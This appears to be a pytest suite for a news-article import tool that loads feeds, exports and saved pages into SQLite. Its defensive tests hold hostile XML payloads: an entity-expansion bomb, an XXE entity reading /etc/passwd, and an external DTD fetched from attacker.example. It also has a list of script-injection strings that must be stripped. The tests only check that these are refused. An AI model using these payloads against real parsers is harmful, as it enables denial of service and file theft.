"""Article import: real feeds, exports and saved pages into a real SQLite store."""

from __future__ import annotations

import datetime as dt
import http.server
import shutil
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path

import pytest
from click.testing import Result

from tests.conftest import Cli
from warcast.articles import (
    SCHEMA_VERSION,
    Article,
    ArticleStore,
    import_sources,
    normalize_url,
    open_store,
)
from warcast.articles.pages import boilerplate
from warcast.errors import ArticleError
from warcast.state import ARTICLES_STORE

DATA = Path(__file__).resolve().parent / "data" / "articles"
FEED, ATOM, JSONL, PAGES = (DATA / name for name in ("feed.xml", "atom.xml", "export.jsonl",
                                                     "pages"))
SITE = "https://warcast.example.org"
UTC = dt.UTC


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    return result


def one_error_line(result: Result) -> str:
    """The command failed with exit 1 and exactly one line on stderr."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("Error: ")
    return lines[0]


def stored(show: Path) -> dict[str, Article]:
    with open_store(show) as store:
        return {article.url: article for article in store.all()}


def store_rows(show: Path) -> list[tuple[object, ...]]:
    """Every row of every table, read with plain sqlite3 (imported_at included)."""
    with sqlite3.connect(show / ARTICLES_STORE) as db:
        return [row for table in ("articles", "article_authors", "article_tags")
                for row in db.execute(f"SELECT * FROM {table} ORDER BY 1, 2")]


def all_text(article: Article) -> str:
    return "\n".join([article.title, *article.authors, *article.tags, article.dek,
                      article.body])


# Sources, field by field


def test_wordpress_rss_feed(cli: Cli) -> None:
    result = ok(cli("articles", "import", str(FEED)))
    assert f"{FEED}: 3 added, 0 updated, 0 unchanged, 1 skipped" in result.stdout
    assert "3 articles in" in result.stdout
    assert result.stderr.strip() == (
        f"warning: {FEED}: skipped item 4 ('Draft: Hormuz escalation ladder'): has no URL")
    articles = stored(cli.show)
    assert articles[f"{SITE}/2026/03/essequibo-after-the-referendum/"] == Article(
        url=f"{SITE}/2026/03/essequibo-after-the-referendum/",
        title="Essequibo after the referendum: what Caracas’s vote changed",
        authors=("Nora Halvorsen",),
        published=dt.datetime(2026, 3, 3, 14, 0, tzinfo=UTC),
        tags=("Americas", "Guyana", "Venezuela"),
        dek="Venezuela’s December referendum did not move a single soldier, but it rewrote the "
            "map Caracas teaches in schools. …",
        body="Venezuela’s December referendum did not move a single soldier, but it rewrote the "
             "map Caracas teaches in schools. The Essequibo, two thirds of Guyana’s territory, "
             "is now drawn as a Venezuelan state.\n"
             "Why the border matters now\n"
             "The 1899 arbitral award fixed the line along the Essequibo river’s western "
             "watershed. Oil found offshore in 2015 turned a dormant claim into a live one.\n"
             "The disputed region, as drawn in Caracas since December.\n"
             "• Guyana has asked the International Court of Justice to rule on the 1899 award.\n"
             "• Brazil has moved armoured vehicles to its northern border.",
        access="public",
        source=str(FEED),
    )
    budget = articles[f"{SITE}/2026/02/hegseth-budget-line-by-line/"]
    assert budget.authors == ("Nora Halvorsen", "Samir Haddad")
    assert "Navy +11%\nArmy 0%" in budget.body
    assert budget.body.endswith("Download the budget tables")


def test_members_category_marks_members_only_and_prompts_are_dropped(cli: Cli) -> None:
    ok(cli("articles", "import", str(FEED)))
    convoy = stored(cli.show)[f"{SITE}/2026/02/inside-the-red-sea-convoy-plan/"]
    assert convoy.access == "members" and convoy.members_only
    assert convoy.tags == ("Middle East", "Shipping")  # the category became access
    assert convoy.published == dt.datetime(2026, 2, 27, 14, 30, tzinfo=UTC)
    assert convoy.body == ("A European plan would escort container ships through the "
                           "Bab el-Mandeb in groups of twelve, with two frigates per convoy.")


def test_atom_feed(cli: Cli) -> None:
    result = ok(cli("articles", "import", str(ATOM)))
    assert f"{ATOM}: 2 added, 0 updated, 0 unchanged, 0 skipped" in result.stdout
    articles = stored(cli.show)
    insurance = articles[f"{SITE}/2026/02/houthi-missiles-insurance/"]
    assert insurance.published == dt.datetime(2026, 2, 19, 4, 45, tzinfo=UTC)
    assert insurance.published.utcoffset() == dt.timedelta(hours=3)  # the zone is kept
    assert insurance.tags == ("Middle East", "Shipping")
    assert insurance.dek == ("War-risk premiums for a Suez transit have risen tenfold since "
                             "November. […]")
    assert insurance.access == "public"
    # A relative link is resolved against the feed's site; XHTML content; two authors.
    guyana = articles[f"{SITE}/2026/01/guyana-oil-money-army/"]
    assert guyana.title == "Guyana's new oil money & its army"
    assert guyana.authors == ("Nora Halvorsen", "Lena Ortiz")
    assert guyana.published == dt.datetime(2026, 1, 30, 12, tzinfo=UTC)  # from <updated>
    assert guyana.body == ("Georgetown is spending on patrol boats and helicopters.\n"
                           "The Guyana Defence Force has doubled its coast guard since 2022.")
    assert guyana.access == "members" and guyana.tags == ("Americas",)


def test_json_lines_export(cli: Cli) -> None:
    result = ok(cli("articles", "import", str(JSONL)))
    assert f"{JSONL}: 3 added, 0 updated, 0 unchanged, 2 skipped" in result.stdout
    assert result.stderr.splitlines() == [
        f"warning: {JSONL}: skipped line 1 ('Sanctions, explained'): has the same URL as "
        "line 4 ('Sanctions, explained (corrected)'), which is imported instead",
        f"warning: {JSONL}: skipped line 5: has no title",
    ]
    articles = stored(cli.show)
    assert sorted(articles) == [f"{SITE}/2026/01/sanctions-explained/",
                                f"{SITE}/2026/01/tanker-shadow-fleet/",
                                f"{SITE}/2026/01/yemen-ceasefire/"]
    # Duplicate URLs (after normalization): the last line wins.
    sanctions = articles[f"{SITE}/2026/01/sanctions-explained/"]
    assert sanctions.title == "Sanctions, explained (corrected)"
    assert sanctions.published == dt.datetime(2026, 1, 12, 14, tzinfo=UTC)
    tankers = articles[f"{SITE}/2026/01/tanker-shadow-fleet/"]
    assert tankers.access == "members"
    assert tankers.published == dt.datetime(2026, 1, 20, tzinfo=UTC)  # a date is midnight UTC
    assert tankers.body == ("Six hundred tankers sail without Western insurance.\n"
                            "Their protection-and-indemnity cover comes from companies "
                            "registered last year.")
    # Control characters (BEL, NUL, VT, a right-to-left override) and the script are gone.
    yemen = articles[f"{SITE}/2026/01/yemen-ceasefire/"]
    assert yemen.title == "Yemen ceasefire talks resume"
    assert yemen.dek == "Muscat hosts a third round."
    assert yemen.authors == ("Samir Haddad",)
    assert yemen.body == ("Talks resumed in Muscat on Sunday.\n"
                          "Omani mediators shuttle between the delegations.")


def test_folder_of_saved_pages(cli: Cli) -> None:
    result = ok(cli("articles", "import", str(PAGES)))
    assert f"{PAGES}: 4 added, 0 updated, 0 unchanged, 0 skipped" in result.stdout
    articles = stored(cli.show)
    icj = articles[f"{SITE}/2026/03/essequibo-icj/"]
    assert icj == Article(
        url=f"{SITE}/2026/03/essequibo-icj/",
        title="The Essequibo case at the ICJ",
        authors=("Nora Halvorsen",),
        published=dt.datetime(2026, 3, 5, 8, 30, tzinfo=UTC),
        tags=("Americas", "Guyana", "Venezuela", "ICJ"),
        dek="What the International Court of Justice can and cannot decide about the Essequibo.",
        body="Guyana filed its application in 2018, asking the court to confirm the 1899 award.\n"
             "Venezuela has never accepted the court’s jurisdiction and sent no agent to the "
             "hearings on the merits.\n"
             # Long prose that mentions membership is kept; only short prompt lines go.
             "In 1966 Guyana chose to become a member of the Commonwealth and the United "
             "Nations within months of independence, and both bodies have since heard its "
             "complaints about the claim; neither has ever been asked to rule on it.",
        access="public",
        source=str(PAGES / "2026-03-essequibo-icj.html"),
    )
    # Title from <h1>, URL from og:url, date from <time>, authors from rel=author links.
    mines = articles[f"{SITE}/2026/02/red-sea-mines/"]
    assert mines.title == "Mines in the Red Sea?"
    assert mines.published == dt.datetime(2026, 2, 11, 17, 15, tzinfo=UTC)
    assert mines.authors == ("Samir Haddad", "Lena Ortiz")
    assert mines.dek == "Naval mines would change the shipping calculation overnight."
    assert mines.body == ("No mine has been found in the Bab el-Mandeb, but insurers already "
                          "price the risk.\nClearing a strait takes weeks even for navies that "
                          "train for it.")
    # Title from <title> without the site name; canonical link; list items.
    drones = articles[f"{SITE}/2026/02/pentagon-drones/"]
    assert drones.title == "The Pentagon’s drone line"
    assert drones.authors == ("Lena Ortiz",)
    assert drones.body.endswith("• Aerial: loitering munitions.\n"
                                "• Maritime: uncrewed surface vessels.")


def test_paywalled_page_is_members_only(cli: Cli) -> None:
    ok(cli("articles", "import", str(PAGES)))
    articles = stored(cli.show)
    houthis = articles[f"{SITE}/2026/02/houthi-leadership/"]
    assert houthis.access == "members"
    assert houthis.body == ("Three names matter after the February strikes, and only one of "
                            "them has been seen in public.")
    assert [a.url for a in articles.values() if a.members_only] == [houthis.url]


PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<link rel="canonical" href="https://warcast.example.org/one/">{head}</head>
<body><article><h1>One page</h1><p>Text of the article.</p>{body}</article></body></html>"""


@pytest.mark.parametrize(("head", "body", "access"), [
    ("", "", "public"),
    ('<meta property="article:content_tier" content="metered">', "", "public"),
    ('<meta property="article:content_tier" content="locked">', "", "members"),
    ('<script type="application/ld+json">{"@graph": [{"isAccessibleForFree": false}]}</script>',
     "", "members"),
    ('<meta property="article:section" content="Members Only">', "", "members"),
    ("", '<div class="entry-paywall"><p>Subscribe to read more.</p></div>', "members"),
    ("", '<div class="members-only" data-tier="gold"></div>', "members"),
    ("", '<a class="membership-cta" href="/join/">Become a Member</a>', "public"),
])
def test_paywall_markers_of_a_single_page(cli: Cli, tmp_path: Path, head: str, body: str,
                                          access: str) -> None:
    page = tmp_path / "one.html"
    page.write_text(PAGE.format(head=head, body=body), encoding="utf-8")
    result = ok(cli("articles", "import", str(page)))
    assert f"{page}: 1 added" in result.stdout
    article = stored(cli.show)[f"{SITE}/one/"]
    assert (article.title, article.body, article.access) == (
        "One page", "One page\nText of the article.", access)


def test_a_single_saved_page_with_a_browser_comment(cli: Cli, tmp_path: Path) -> None:
    page = tmp_path / "saved"
    page.write_text("<!-- saved from url=(0032)https://warcast.example.org/one/ -->\n"
                    + PAGE.format(head="", body=""), encoding="utf-8")
    result = ok(cli("articles", "import", str(page)))
    assert f"{page}: 1 added" in result.stdout
    assert stored(cli.show)[f"{SITE}/one/"].source == str(page)


FURNITURE = [
    "Become a Member", "Already a member", "Sign in", "Subscribe to read", "Members get every",
    "$8 a month", "Warcast Brief", "newsletter", "Share this", "Twitter", "Facebook", "Home",
    "Podcast", "Related", "© 2026", "Privacy", "cookies", "reader-supported",
    "injected by script", "dataLayer", "appeared first on", "Read more",
]


def test_site_furniture_scripts_and_html_never_stored(cli: Cli) -> None:
    ok(cli("articles", "import", str(FEED), str(ATOM), str(JSONL), str(PAGES)))
    articles = stored(cli.show)
    assert len(articles) == 12
    for article in articles.values():
        text = all_text(article)
        for phrase in FURNITURE:
            assert phrase not in text, (phrase, article.url)
        for unsafe in ("<", ">", "script", "alert(", "onerror", "javascript:", "cookie",
                       "evil.example", "\x00", "\x07", "\u202e"):
            assert unsafe not in text, (unsafe, article.url)


def test_template_paragraphs_repeated_across_pages_are_boilerplate() -> None:
    note = "Warcast Media is reader-supported."
    assert boilerplate([["a", note], ["b", note], ["c"]]) == {note}
    assert boilerplate([["a", note], ["b", note]]) == set()  # too few pages to tell
    assert boilerplate([["a", note], ["b"], ["c"], ["d"], ["e"]]) == set()


# Upsert by URL


def test_reimport_updates_and_never_duplicates(cli: Cli, tmp_path: Path) -> None:
    ok(cli("articles", "import", str(FEED)))
    rows = store_rows(cli.show)
    again = ok(cli("articles", "import", str(FEED)))
    assert f"{FEED}: 0 added, 0 updated, 3 unchanged, 1 skipped" in again.stdout
    assert store_rows(cli.show) == rows  # imported_at untouched when nothing changed

    edited = tmp_path / "feed.xml"
    text = FEED.read_text(encoding="utf-8")
    edited.write_text(text.replace("Inside the Red Sea convoy plan", "The Red Sea convoy plan")
                      .replace("<link>https://warcast.example.org/2026/02/hegseth",
                               "<link>HTTPS://WARCAST.EXAMPLE.ORG/2026/02/hegseth"),
                      encoding="utf-8")
    changed = ok(cli("articles", "import", str(edited)))
    assert f"{edited}: 0 added, 1 updated, 2 unchanged, 1 skipped" in changed.stdout
    articles = stored(cli.show)
    assert len(articles) == 3
    assert articles[f"{SITE}/2026/02/inside-the-red-sea-convoy-plan/"].title == (
        "The Red Sea convoy plan")
    with open_store(cli.show) as store:
        assert store.count() == 3
        assert store.get(f"{SITE.upper()}/2026/02/inside-the-red-sea-convoy-plan/#top") == (
            articles[f"{SITE}/2026/02/inside-the-red-sea-convoy-plan/"])
        assert store.get(f"{SITE}/2026/02/inside-the-red-sea-convoy-plan") is None


def test_bookkeeping_stays_in_the_database(cli: Cli) -> None:
    ok(cli("articles", "import", str(FEED)))
    assert {field.name for field in fields(Article)} == {
        "url", "title", "authors", "published", "tags", "dek", "body", "access", "source"}
    with sqlite3.connect(cli.show / ARTICLES_STORE) as db:
        columns = {row[1] for row in db.execute("PRAGMA table_info(articles)")}
        hashes = [row[0] for row in db.execute("SELECT content_hash FROM articles")]
    assert {"content_hash", "imported_at"} <= columns
    assert len(set(hashes)) == 3


@pytest.mark.parametrize(("url", "key"), [
    ("HTTPS://Warcast.Example.ORG/2026/A/#part-2", "https://warcast.example.org/2026/A/"),
    ("https://warcast.example.org/a", "https://warcast.example.org/a"),
    ("https://warcast.example.org/a/", "https://warcast.example.org/a/"),
    ("http://User@Example.org:8080/a?b=C", "http://User@example.org:8080/a?b=C"),
    ("ftp://example.org/a", None),
    ("/2026/a/", None),
    ("https://", None),
    ("http://[::1", None),
])
def test_url_normalization(url: str, key: str | None) -> None:
    assert normalize_url(url) == key


# Bad input: one line, exit 1, nothing written


BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><item><title>&lol9;</title>
<link>https://warcast.example.org/bomb/</link></item></channel></rss>
"""
QUADRATIC = ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "x" * 100_000 + '">]>'
             "<rss><channel><item><title>" + "&a;" * 10_000 + "</title></item></channel></rss>")
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&xxe;</title>
<link>https://warcast.example.org/xxe/</link></item></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel/></rss>
"""


@pytest.mark.parametrize(("document", "expected"), [
    (BOMB, "declares XML entities ('lol'), the pattern of an XML bomb; refusing to parse it"),
    (QUADRATIC, "the pattern of an XML bomb"),
    (EXTERNAL, "declares an external XML entity 'xxe' (file:///etc/passwd); refusing to load"),
    (EXTERNAL_DTD, "external XML entity 'remote' (http://attacker.example/evil.dtd)"),
])
def test_xml_bombs_and_external_entities_are_refused_quickly(
        cli: Cli, tmp_path: Path, document: str, expected: str) -> None:
    feed = tmp_path / "evil.xml"
    feed.write_text(document, encoding="utf-8")
    started = time.monotonic()
    line = one_error_line(cli("articles", "import", str(feed)))
    assert time.monotonic() - started < 2
    assert line.startswith(f"Error: {feed}: ")
    assert expected in line
    assert "Remove the DOCTYPE" in line
    assert not (cli.show / ARTICLES_STORE).exists()


@pytest.mark.parametrize(("document", "name", "expected"), [
    (FEED.read_text(encoding="utf-8")[:3000], "cut.xml",
     "is not well-formed XML (unclosed CDATA section: line 44, column 83)"),
    ("<rss><channel><item><title>A</item></channel></rss>", "bad.xml",
     "is not well-formed XML (mismatched tag: line 1, column 30)"),
    ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>', "rdf.xml",
     "is an RSS 1.0 (RDF) feed, not an RSS 2.0 or Atom feed"),
    ("", "empty.xml", "is empty"),
    ("title,url\nA,https://x.example/\n", "export.csv", "is neither a feed, JSON Lines nor"),
    ('{"url": "https://warcast.example.org/a/", "title": ""}\nnot json\n[1]\n', "all-bad.jsonl",
     "no article could be imported: line 1: has no title and 2 more"),
    ("<rss><channel><title>Empty</title></channel></rss>", "no-items.xml", "has no articles"),
])
def test_unusable_sources_fail_with_one_line(cli: Cli, tmp_path: Path, document: str,
                                             name: str, expected: str) -> None:
    source = tmp_path / name
    source.write_text(document, encoding="utf-8")
    line = one_error_line(cli("articles", "import", str(source)))
    assert expected in line
    assert not (cli.show / ARTICLES_STORE).exists()


def test_missing_source_and_empty_folder(cli: Cli, tmp_path: Path) -> None:
    assert "not found" in one_error_line(cli("articles", "import", str(tmp_path / "nope.xml")))
    assert "has no .html pages" in one_error_line(cli("articles", "import", str(tmp_path)))
    assert "cannot read a 'ftp' URL" in one_error_line(
        cli("articles", "import", "ftp://example.org/feed.xml"))


def test_skipped_json_lines_are_reported_with_reasons(cli: Cli, tmp_path: Path) -> None:
    export = tmp_path / "mixed.jsonl"
    export.write_text("\n".join([
        '{"url": "https://warcast.example.org/ok/", "title": "Fine"}',
        '{"url": "https://warcast.example.org/bad-json/", "title": "Oops",',
        '["not", "an", "object"]',
        '{"title": "No URL here"}',
        '{"url": "mailto:desk@warcast.example.org", "title": "Not a page"}',
        '{"url": "https://warcast.example.org/tags/", "title": "Tags", "tags": [1, 2]}',
        '{"url": "https://warcast.example.org/access/", "title": "Gold", "access": "gold"}',
        '{"url": ["https://warcast.example.org/list/"], "title": "Listed"}',
        '{"url": "https://warcast.example.org/date/", "title": "Dated", "published": "soon"}',
        "",
    ]), encoding="utf-8")
    result = ok(cli("articles", "import", str(export)))
    assert f"{export}: 2 added, 0 updated, 0 unchanged, 7 skipped" in result.stdout
    assert result.stderr.splitlines() == [
        f"warning: {export}: line 9 ('Dated'): date 'soon' is not a date; left empty",
        f"warning: {export}: skipped line 2: is not valid JSON (Expecting property name "
        "enclosed in double quotes at column 66)",
        f"warning: {export}: skipped line 3: is a list in JSON, not an object",
        f"warning: {export}: skipped line 4 ('No URL here'): has no URL",
        f"warning: {export}: skipped line 5 ('Not a page'): URL 'mailto:desk@warcast.example"
        ".org' is not an absolute http(s) URL",
        f"warning: {export}: skipped line 6 ('Tags'): 'tags' must be a list of strings",
        f"warning: {export}: skipped line 7 ('Gold'): access 'gold' is neither public nor "
        "members",
        f"warning: {export}: skipped line 8 ('Listed'): 'url' must be a string, not a list",
    ]
    assert stored(cli.show)[f"{SITE}/date/"].published is None


def test_control_characters_in_a_feed_are_removed_with_a_warning(cli: Cli,
                                                                 tmp_path: Path) -> None:
    feed = tmp_path / "pasted.xml"
    feed.write_bytes(FEED.read_bytes().replace(b"Inside the Red Sea",
                                               b"Inside\x0b the\x1f Red Sea"))
    result = ok(cli("articles", "import", str(feed)))
    assert f"warning: {feed}: removed 2 control characters that XML does not allow" in (
        result.stderr)
    assert stored(cli.show)[f"{SITE}/2026/02/inside-the-red-sea-convoy-plan/"].title == (
        "Inside the Red Sea convoy plan")


def test_quiet_prints_only_warnings(cli: Cli) -> None:
    result = ok(cli("articles", "import", str(FEED), "--quiet"))
    assert result.stdout == ""
    assert "has no URL" in result.stderr


# Nothing half-written


def test_a_failing_source_leaves_the_store_as_it_was(cli: Cli, tmp_path: Path) -> None:
    ok(cli("articles", "import", str(FEED)))
    before = store_rows(cli.show)
    bomb = tmp_path / "bomb.xml"
    bomb.write_text(BOMB, encoding="utf-8")
    one_error_line(cli("articles", "import", str(JSONL), str(bomb)))
    assert store_rows(cli.show) == before  # the good export before it was not written either


def test_a_database_failure_mid_source_rolls_the_whole_source_back(cli: Cli) -> None:
    ok(cli("articles", "import", str(FEED)))
    with sqlite3.connect(cli.show / ARTICLES_STORE) as db:
        db.execute("CREATE TRIGGER refuse BEFORE INSERT ON articles "
                   "WHEN NEW.url LIKE '%sanctions%' BEGIN SELECT RAISE(ABORT, 'refused'); END")
    before = store_rows(cli.show)
    line = one_error_line(cli("articles", "import", str(JSONL)))
    assert "articles.sqlite: article store: refused" in line
    assert store_rows(cli.show) == before  # the articles written before the failure are gone
    with pytest.raises(ArticleError):
        import_sources(cli.show, [str(JSONL)])
    assert len(stored(cli.show)) == 3


# The store


def test_store_schema_journal_and_version(show_dir: Path) -> None:
    with open_store(show_dir) as store:
        assert store.count() == 0
        assert store.db.execute("PRAGMA foreign_keys").fetchone()[0] == 1
    with sqlite3.connect(show_dir / ARTICLES_STORE) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    with ArticleStore(show_dir / ARTICLES_STORE) as store:  # reopening migrates nothing
        assert store.all() == []


def test_store_from_a_newer_warcast_or_not_sqlite_is_refused(cli: Cli) -> None:
    path = cli.show / ARTICLES_STORE
    path.parent.mkdir()
    with sqlite3.connect(path) as db:
        db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    line = one_error_line(cli("articles", "import", str(FEED)))
    assert "written by a newer warcast" in line and "Upgrade warcast" in line
    path.unlink()
    path.write_bytes(b"these are not the bytes of a database " * 100)
    line = one_error_line(cli("articles", "import", str(FEED)))
    assert "file is not a database" in line and "Move it aside" in line


def test_members_category_comes_from_show_toml(cli: Cli, tmp_path: Path) -> None:
    show_toml = cli.show / "show.toml"
    show_toml.write_text(show_toml.read_text(encoding="utf-8")
                         + '\n[articles]\nmembers_category = "Premium"\n', encoding="utf-8")
    export = tmp_path / "premium.jsonl"
    export.write_text('{"url": "https://warcast.example.org/p/", "title": "P", '
                      '"tags": ["premium", "Arctic"]}\n', encoding="utf-8")
    ok(cli("articles", "import", str(FEED), str(export)))
    articles = stored(cli.show)
    assert articles[f"{SITE}/p/"].access == "members"
    assert articles[f"{SITE}/p/"].tags == ("Arctic",)
    convoy = articles[f"{SITE}/2026/02/inside-the-red-sea-convoy-plan/"]
    assert convoy.access == "public" and "Members Only" in convoy.tags

    show_toml.write_text(show_toml.read_text(encoding="utf-8") + "members = 1\n",
                         encoding="utf-8")
    assert "key 'articles.members'" in one_error_line(cli("articles", "import", str(FEED)))


# URLs


@pytest.fixture
def site(tmp_path: Path) -> Iterator[str]:
    """A local web server serving a copy of the test data."""
    root = tmp_path / "site"
    shutil.copytree(DATA, root)

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, directory=str(root), **kwargs)  # type: ignore[arg-type]

        def log_message(self, *_args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_feed_and_export_by_url(cli: Cli, site: str) -> None:
    result = ok(cli("articles", "import", f"{site}/atom.xml", f"{site}/export.jsonl"))
    assert f"{site}/atom.xml: 2 added" in result.stdout
    assert f"{site}/export.jsonl: 3 added" in result.stdout
    assert stored(cli.show)[f"{SITE}/2026/01/guyana-oil-money-army/"].source == (
        f"{site}/atom.xml")
    line = one_error_line(cli("articles", "import", f"{site}/pages/2026-02-red-sea-mines.html"))
    assert "is an HTML page, not a feed" in line
    assert "answered 404" in one_error_line(cli("articles", "import", f"{site}/missing.xml"))
